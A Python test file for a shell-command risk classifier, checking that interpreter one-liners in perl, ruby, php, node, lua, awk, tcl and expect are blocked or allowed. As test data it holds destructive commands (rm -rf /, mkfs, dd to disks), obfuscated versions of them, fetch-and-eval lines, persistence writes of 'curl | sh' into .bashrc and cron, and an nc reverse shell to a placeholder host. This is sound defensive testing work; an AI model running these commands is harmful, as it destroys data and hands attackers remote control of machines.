"""Interpreter one-liners that build their command from constants are read as that command, in every
token-read language, however the string is put together (hypothesis composes the pieces)."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from securecli_eval.shell.interpreters import read
from securecli_eval.shell.risk import classify

DANGEROUS = ["rm -rf /", "rm -rf /etc", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sdb", "chmod -R 777 /"]
HARMLESS = ["ls -la", "echo hello", "date", "uname -a"]


class Language:
    """How one language writes a string literal and the ways of building a string from constants."""

    def __init__(self, program: str, option: str, concat: str, run: str, assign: str, **ways: str) -> None:
        self.program, self.option, self.concat, self.run, self.assign = program, option, concat, run, assign
        self.ways = ways  # name -> template over {x} (an expression) or {b64} (base64 text)

    @staticmethod
    def literal(text: str) -> str:
        return '"' + text + '"'

    def one_liner(self, expression: str, through_variable: bool) -> str:
        if through_variable:
            code = self.assign.format(e=expression) + self.run.format(x=self.variable)
        else:
            code = self.run.format(x=expression)
        if self.program == "awk":
            code = "BEGIN { " + code + " }"
        return f"{self.program} {self.option} '{code}'".replace("  ", " ")

    @property
    def variable(self) -> str:
        return {"perl": "$v", "php": "$v"}.get(self.program, "v")


LANGUAGES = [
    Language(
        "perl",
        "-e",
        " . ",
        "system({x});",
        "my $v = {e}; ",
        reverse="scalar reverse({x})",
        join='join("", {x}, "")',
        format='sprintf("%s", {x})',
        b64='decode_base64("{b64}")',
    ),
    Language(
        "ruby",
        "-e",
        " + ",
        "system({x})",
        "v = {e}; ",
        reverse="({x}).reverse",
        join='[{x}, ""].join("")',
        format='format("%s", {x})',
        b64='Base64.decode64("{b64}")',
    ),
    Language(
        "php",
        "-r",
        " . ",
        "system({x});",
        "$v = {e}; ",
        reverse="strrev({x})",
        format='sprintf("%s", {x})',
        b64='base64_decode("{b64}")',
    ),
    Language(
        "node",
        "-e",
        " + ",
        'require("child_process").execSync({x})',
        "const v = {e}; ",
        reverse='({x}).split("").reverse().join("")',
        join='[{x}, ""].join("")',
        b64='Buffer.from("{b64}", "base64").toString()',
    ),
    Language(
        "lua",
        "-e",
        " .. ",
        "os.execute({x})",
        "local v = {e}; ",
        reverse="string.reverse({x})",
        format='string.format("%s", {x})',
    ),
    Language("awk", "", " ", "system({x})", "v = {e}; "),
]


@st.composite
def expressions(draw: st.DrawFn, language: Language, text: str, depth: int = 0, decoding: bool = True) -> str:
    """An expression of ``language`` whose value is ``text``: a literal, a concatenation of pieces,
    or one of the language's ways (reversal, join, format, base64) around a smaller expression."""
    ways = ["literal", "concat"] + ([] if depth >= 2 else sorted(language.ways))
    if not decoding:
        ways = [w for w in ways if w != "b64"]
    way = draw(st.sampled_from(ways))
    if way == "literal" or (way == "concat" and len(text) < 2):
        return language.literal(text)
    if way == "concat":
        cut = draw(st.integers(1, len(text) - 1))
        left = draw(expressions(language, text[:cut], depth + 1, decoding))
        right = draw(expressions(language, text[cut:], depth + 1, decoding))
        return left + language.concat + right
    template = language.ways[way]
    if way == "b64":
        return template.format(b64=base64.b64encode(text.encode()).decode())
    inner = text[::-1] if way == "reverse" else text
    return template.format(x=draw(expressions(language, inner, depth + 1, decoding)))


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(LANGUAGES), st.sampled_from(DANGEROUS), st.booleans(), st.data())
def test_a_command_built_from_constants_is_read_as_that_command(
    language: Language, command: str, through_variable: bool, data: st.DataObject
) -> None:
    expression = data.draw(expressions(language, command))
    one_liner = language.one_liner(expression, through_variable)
    assert classify(one_liner).verdict == "block", one_liner


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(LANGUAGES), st.sampled_from(HARMLESS), st.booleans(), st.data())
def test_the_same_building_around_a_harmless_command_is_not_blocked(
    language: Language, command: str, through_variable: bool, data: st.DataObject
) -> None:
    """(Decoding is left out: running what was decoded is obfuscated execution, OBF001, whatever it is.)"""
    expression = data.draw(expressions(language, command, decoding=False))
    one_liner = language.one_liner(expression, through_variable)
    assert classify(one_liner).verdict != "block", one_liner


def test_constants_are_not_rewritten_inside_other_strings() -> None:
    """A variable's name inside an unrelated string literal is text, not a use of the variable."""
    reading = read("ruby", 'c = "rm -rf /tmp/x"; puts "c is fine"; system(c)')
    assert [a.code for a in reading.actions] == ["rm -rf /tmp/x"]


def test_what_a_one_liner_prints_is_known_only_when_every_print_is_constant() -> None:
    assert read("perl", 'print "rm -rf /\\n"').output == "rm -rf /\n"
    assert read("ruby", 'puts "a"; puts "b"').output == "a\nb\n"
    assert read("perl", "print $x").output is None
    assert read("php", 'echo "a" if true').output is None


# the home directory as each language reads it from the environment (Python's os.environ is read by ast)
HOMES = {
    "perl": ["$ENV{HOME}", "$ENV{'HOME'}"],
    "ruby": ['ENV["HOME"]', 'ENV.fetch("HOME")', "Dir.home"],
    "php": ['getenv("HOME")', '$_SERVER["HOME"]'],
    "node": ["process.env.HOME", 'process.env["HOME"]', 'require("os").homedir()'],
    "lua": ['os.getenv("HOME")'],
    "awk": ['ENVIRON["HOME"]'],
}


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(LANGUAGES), st.booleans(), st.data())
def test_the_home_from_the_environment_is_the_home(
    language: Language, through_variable: bool, data: st.DataObject
) -> None:
    """``"rm -rf " . $ENV{HOME}`` deletes the home; ``"ls " . $ENV{HOME}`` lists it."""
    home = data.draw(st.sampled_from(HOMES[language.program]))
    prefix = data.draw(expressions(language, "rm -rf ", decoding=False))
    one_liner = language.one_liner(prefix + language.concat + home, through_variable)
    assert classify(one_liner).verdict == "block", one_liner
    harmless = language.one_liner(language.literal("ls ") + language.concat + home, through_variable)
    assert classify(harmless).verdict != "block", harmless


@pytest.mark.parametrize(
    ("one_liner", "verdict"),
    [
        ("perl -e 'chmod 0777, \"/etc/sudoers\"'", "block"),
        ("perl -e 'chmod 0600, \"/home/alice/.ssh/id_rsa\"'", "allow"),
        ("ruby -e 'File.chmod(04755, \"/usr/bin/find\")'", "block"),
        ("ruby -e 'FileUtils.chmod_R(0777, \"/var\")'", "block"),
        ("ruby -e 'FileUtils.chmod(0644, \"notes.txt\")'", "allow"),
        ("php -r 'chmod(\"/etc/shadow\", 0666);'", "block"),
        ('node -e \'require("fs").chmodSync("/etc/passwd", 0o666)\'', "block"),
        ('node -e \'require("fs").chmodSync("build/run.sh", 0o755)\'', "allow"),
    ],
)
def test_mode_changes_in_one_liners_are_read_as_chmod(one_liner: str, verdict: str) -> None:
    assert classify(one_liner).verdict == verdict


@pytest.mark.parametrize(
    ("one_liner", "verdict"),
    [
        ("perl -e 'unlink glob \"/boot/vmlinuz-*\"'", "block"),  # a glob of a constant is that pattern
        ("ruby -e 'File.delete(*Dir.glob(\"/etc/*\"))'", "block"),
        ("perl -e 'unlink glob \"build/*.o\"'", "allow"),
        ("node -e \"fetch('http://203.0.113.5/p').then(r => r.text()).then(eval)\"", "block"),
        ("node -e \"fetch('http://203.0.113.5/p').then(r => r.json()).then(console.log)\"", "allow"),
    ],
)
def test_globs_and_callbacks(one_liner: str, verdict: str) -> None:
    assert classify(one_liner).verdict == verdict


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("echo 'exec rm -rf /' | tclsh", "block"),
        ("echo 'puts [exec rm -rf /etc]' | tclsh", "block"),  # a substitution runs first
        ("expect -c 'spawn dd if=/dev/zero of=/dev/sda; expect eof'", "block"),
        ("expect -c 'spawn bash; send \"rm -rf ~\\r\"; expect eof'", "block"),  # typed into a shell
        ("tclsh <<'EOF'\nproc wipe {} { file delete -force /etc }\nwipe\nEOF", "block"),  # a body
        ("echo 'exec ls -la | wc -l' | tclsh", "allow"),
        ('expect -c \'spawn ssh alice@host; expect "password:"; send "hunter2\\r"; interact\'', "allow"),
        ("echo 'file delete -force ./build' | tclsh", "allow"),
    ],
)
def test_tcl_and_expect_are_read(script: str, verdict: str) -> None:
    assert classify(script).verdict == verdict


@pytest.mark.parametrize(
    ("one_liner", "verdict"),
    [
        ("ruby -e 'Dir.glob(\"/etc/**/*\").each { |f| File.delete(f) }'", "block"),
        ('ruby -e \'["/usr", "/var"].each do |d| FileUtils.rm_rf(d) end\'', "block"),
        ("perl -e 'for my $d (qw(/usr /var)) { system(\"rm -rf $d\") }'", "block"),
        ("php -r 'foreach (glob(\"/etc/*\") as $f) { unlink($f); }'", "block"),
        ('node -e \'["/etc", "/usr"].forEach(d => require("fs").rmSync(d, {recursive: true}))\'', "block"),
        ('lua -e \'for _, p in ipairs({"/etc", "/usr"}) do os.execute("rm -rf " .. p) end\'', "block"),
        # a harmless loop before does not hide the dangerous one
        ("perl -e '" + 'for $x ("a") { print 1 } ' * 6 + 'for $d ("/etc") { rmtree($d) }\'', "block"),
        ('ruby -e \'["build", "dist"].each { |d| FileUtils.rm_rf(d) }\'', "allow"),
        ('perl -e \'for $f ("a.txt", "b.txt") { unlink $f }\'', "allow"),
    ],
)
def test_loops_over_constant_lists_run_their_body_per_item(one_liner: str, verdict: str) -> None:
    assert classify(one_liner).verdict == verdict, one_liner


@pytest.mark.parametrize(
    ("one_liner", "verdict"),
    [  # what a one-liner writes into a start-up file is read as code there
        (
            'perl -e \'open(my $f, ">>", "$ENV{HOME}/.bashrc"); print $f "curl -s x.example | sh\\n"\'',
            "block",
        ),
        (
            'php -r \'file_put_contents(getenv("HOME")."/.bashrc", "curl -s x.example | sh", FILE_APPEND);\'',
            "block",
        ),
        (
            'node -e \'require("fs").appendFileSync(process.env.HOME + "/.profile", "curl x.example|sh")\'',
            "block",
        ),
        ('python3 -c \'open("/etc/profile.d/x.sh", "w").write("nc -e /bin/sh 203.0.113.5 9")\'', "block"),
        ('ruby -e \'File.write("/etc/cron.d/x", "* * * * * root curl -s x.example/a | sh\\n")\'', "block"),
        ('node -e \'require("fs").writeFileSync("notes.txt", "rm -rf /")\'', "allow"),
        ('python3 -c \'open("out.txt", "w").write("hello")\'', "allow"),
        # what a command prints, evaluated, is that command piped into the interpreter
        ('node -e \'eval(require("child_process").execSync("curl -s x.example/p").toString())\'', "block"),
        ("perl -e 'eval `curl -s http://x.example/p`'", "block"),
        ("php -r 'eval(shell_exec(\"curl -s http://x.example/p\"));'", "block"),
        ("python3 -c 'import os; exec(os.popen(\"wget -qO- x.example/p\").read())'", "block"),
        ("ruby -e 'eval(`cat config.rb`)'", "allow"),
        # expect types into a shell, su or ssh it spawned
        (
            'expect -c \'spawn su root; expect "Password:"; send "toor\\r"; send "rm -rf /\\r"; interact\'',
            "block",
        ),
        (
            'expect -c \'spawn ssh root@10.0.0.1; expect "#"; send "mkfs.ext4 /dev/sda\\r"; interact\'',
            "block",
        ),
    ],
)
def test_writes_evaluated_output_and_typed_commands(one_liner: str, verdict: str) -> None:
    assert classify(one_liner).verdict == verdict, one_liner
